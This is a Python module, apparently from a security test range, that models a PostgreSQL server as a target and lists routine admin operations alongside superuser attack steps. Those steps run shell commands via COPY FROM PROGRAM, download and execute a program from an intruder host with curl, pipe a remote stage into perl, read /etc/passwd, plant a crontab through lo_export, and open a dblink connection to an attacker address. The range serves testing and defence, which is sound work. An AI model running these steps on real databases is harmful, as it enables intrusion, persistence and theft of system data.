"""PostgreSQL: what a superuser of the database may do to the machine."""

from collections.abc import Sequence

from service_clients import PostgresClient

from baseline.demo.attacker import ADDRESS
from baseline.demo.postgres import Postgres
from baseline.demo.service import Step
from ranges.intruder import Intruder
from ranges.target import Target, require

_MINING = "SELECT count(sha256(n::text::bytea)) FROM generate_series(1, 2000000) AS n"
_REQUEST = b"\x04\xd2\x16"
"""With what a client of PostgreSQL asks for encryption, first of all."""
_PHYSICAL = ("--format=tar", "--wal-method=fetch", "--pgdata=-", "--checkpoint=fast")


class PostgresTarget(Target[Postgres]):
    """Its intruders have the rights of its account."""

    client = PostgresClient
    account = "postgres"
    needs = ("curl", "perl")
    techniques = ("reverse", "exfiltrate", "uring", "ptrace")

    def operations(self) -> Sequence[Step]:
        """Reload, clean up, two kinds of backup, restart."""
        client = self.server.client
        return (
            Step(
                "reload",
                lambda: require(self._query("SELECT pg_reload_conf()"), b" t\n", "The reload"),
            ),
            Step("vacuum", lambda: require(client("vacuumdb", "--analyze"), b"vacuum", "vacuumdb")),
            Step("logical backup", self._dump),
            Step(
                "physical backup",
                lambda: require(
                    client("pg_basebackup", *_PHYSICAL), b"backup_label", "pg_basebackup"
                ),
            ),
            Step("restart", self.restart),
        )

    def _dump(self) -> None:
        dump = self.server.folder / "backup.sql"
        dump.unlink(missing_ok=True)
        self.server.client("pg_dump", f"--file={dump}")
        require(dump.read_bytes() if dump.exists() else b"", b"dump complete", "pg_dump")

    def ways_in(self, intruder: Intruder) -> Sequence[Step]:
        """Programs, files and connections by statements."""
        tool = self.scratch() / "tool"
        crontab = self.scratch() / "updates"
        address = f"host={ADDRESS} port={intruder.listener} connect_timeout=2"
        return (
            Step("COPY FROM PROGRAM runs a command", lambda: self._run("id")),
            Step(
                "COPY FROM PROGRAM downloads a program and runs it",
                lambda: self._run(
                    f"curl -s -o {tool} {intruder.tool} && chmod +x {tool} && {tool} x && id"
                ),
            ),
            Step(
                "COPY FROM PROGRAM runs a program from memory",
                lambda: self._run(f"curl -s {intruder.stage} | perl"),
            ),
            Step("COPY shows a file of the system", self._read_file),
            Step("lo_export leaves a crontab", lambda: self._write_file(str(crontab))),
            Step("dblink calls another machine", lambda: self._call(address, intruder)),
            Step(
                "a query computes inside PostgreSQL",
                lambda: require(self._query(_MINING), b" 2000000\n", "The query"),
            ),
        )

    def _run(self, command: str) -> None:
        require(self.server.copy_from(command), b"uid=", "COPY FROM PROGRAM")

    def _read_file(self) -> None:
        answer = self._query(
            "CREATE TEMP TABLE loot (line text)",
            "COPY loot FROM '/etc/passwd'",
            "SELECT * FROM loot",
        )
        require(answer, b"root:", "COPY")

    def _write_file(self, path: str) -> None:
        answer = self._query(
            "SELECT lo_from_bytea(4711, '*/5 * * * * root true')",
            f"SELECT lo_export(4711, '{path}') AS written",
            "SELECT lo_unlink(4711)",
        )
        require(answer, b"written", "lo_export")

    def _call(self, address: str, intruder: Intruder) -> None:
        before = len(intruder.heard)
        self._query("CREATE EXTENSION IF NOT EXISTS dblink", f"SELECT dblink_connect('{address}')")
        require(b" ".join(intruder.heard[before:]), _REQUEST, "dblink_connect")

    def _query(self, *statements: str) -> bytes:
        return self.server.client("psql", *(word for text in statements for word in ("-c", text)))
